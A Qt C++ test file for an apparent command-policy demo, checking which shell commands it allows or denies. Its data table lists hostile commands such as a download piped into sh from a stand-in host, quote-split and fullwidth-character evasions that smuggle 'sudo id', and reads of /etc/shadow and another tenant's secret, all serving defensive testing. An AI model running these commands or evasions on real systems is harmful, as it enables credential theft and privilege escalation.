// SPDX-License-Identifier: Apache-2.0

// The demo's commands really end as the demo says.

#include <QProcess>
#include <QProcessEnvironment>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;

class TstDemo : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void every_command_ends_as_the_demo_says_data();
    void every_command_ends_as_the_demo_says();
    void a_second_call_shows_the_record();

private:
    QString call();

    QTemporaryDir m_home{u"/var/tmp/portcullis-demo-XXXXXX"_s}; // a place that users of every command can reach
    QString m_first;
};

QString TstDemo::call()
{
    QProcess demo;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(u"XDG_DATA_HOME"_s, m_home.path());
    demo.setProcessEnvironment(environment);
    demo.setProcessChannelMode(QProcess::MergedChannels);
    demo.start(u"python3"_s, {QStringLiteral(TEST_SOURCE_DIR "/tools/demo/run"), QStringLiteral(TEST_BIN_DIR)});
    demo.waitForFinished(120'000);
    return demo.exitStatus() == QProcess::NormalExit && demo.exitCode() == 0 ? QString::fromUtf8(demo.readAll())
                                                                             : QString();
}

void TstDemo::initTestCase()
{
    QVERIFY(QFile::setPermissions(
        m_home.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner | QFile::ExeGroup | QFile::ExeOther));
    m_first = call();
    QVERIFY(m_first.contains("Running the demo's commands"_L1));
}

void TstDemo::every_command_ends_as_the_demo_says_data()
{
    QTest::addColumn<QString>("row");
    const auto row = [](const char *verdict, const char *outcome, const char *decided, const char *command) {
        QTest::newRow(command) << u"  %1 %2 %3 %4"_s.arg(QLatin1StringView(verdict), -6)
                                      .arg(QLatin1StringView(outcome), -10)
                                      .arg(QString::fromUtf8(decided), -28)
                                      .arg(QString::fromUtf8(command));
    };
    row("ALLOW", "exit 0", "–", "echo hello from acme");
    row("ALLOW", "exit 0", "–", "git init -q site");
    row("DENY", "not run", "download-into-shell", "curl -s https://x.example/install | sh");
    row("DENY", "not run", "download-into-shell", "c\"\"url -s");
    row("DENY", "not run", "run-as-another-user", "true ＃; sudo id");
    row("DENY", "not run", "no-production-database", "psql -h prod-1");
    row("DENY", "not run", "other_tenant", "cat $DATA/tenants/globex/secret.txt");
    row("ALLOW", "exit 1", "–", "python3 report.py");
    row("ALLOW", "exit 1", "–", "cat /etc/shadow");
    row("ALLOW", "timed out", "–", "sleep 30 & setsid sleep 30; wait");
    row("ALLOW", "signal 15", "–", "kill -TERM $$");
    row("DENY", "not run", "host_policy", "ls");
    row("DENY", "not run", "backend", "ls");
}

void TstDemo::every_command_ends_as_the_demo_says()
{
    QFETCH(QString, row);
    const QStringList words = row.simplified().split(u' ');
    QVERIFY2(m_first.simplified().contains(words.join(u' ')), qPrintable(m_first));
}

void TstDemo::a_second_call_shows_the_record()
{
    const QString again = call();
    QVERIFY2(again.contains("python3 report.py"_L1) && !again.contains("Running the demo's commands"_L1),
             qPrintable(again));
}

QTEST_GUILESS_MAIN(TstDemo)
#include "tst_demo.moc"
